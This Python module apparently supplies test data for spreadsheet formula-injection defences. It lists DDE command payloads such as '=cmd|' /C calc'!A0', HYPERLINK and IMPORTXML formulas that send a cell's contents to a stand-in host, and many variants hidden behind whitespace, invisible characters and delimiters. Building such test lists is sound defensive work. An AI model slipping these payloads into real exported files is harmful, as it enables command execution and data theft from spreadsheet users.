"""Texts that a spreadsheet program would run, or take for more than one cell."""

from __future__ import annotations

from itertools import product

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"mark")',
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−1",
]
BEFORE = [
    "",
    " ",
    "\u00a0",
    "\u3000",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\x1b",
    "\u200b",
    "\u202e",
    "\ufeff",
    '"',
    '""',
    "“",
    "' ",
    ' " \t',
    "\ud800",
    "\x85",
]
SPLITTERS = ["a;", "a|", "a\t", "a\n", "a\r\n", "a;;", 'a";"', "a; ", "a\n\n ", "a;\t"]
HOSTILE = [
    *(before + formula for before, formula in product(BEFORE, FORMULAS)),
    *(before + formula for before, formula in product(SPLITTERS, FORMULAS)),
    "=",
    "-",
    '","=1+1',
    "'\n=1",
    "\t",
    "\n",
    "x\udcff",
    "a\0b",
    "=" * 5000,
    "\t" * 5000,
    ";=" * 2500,
]
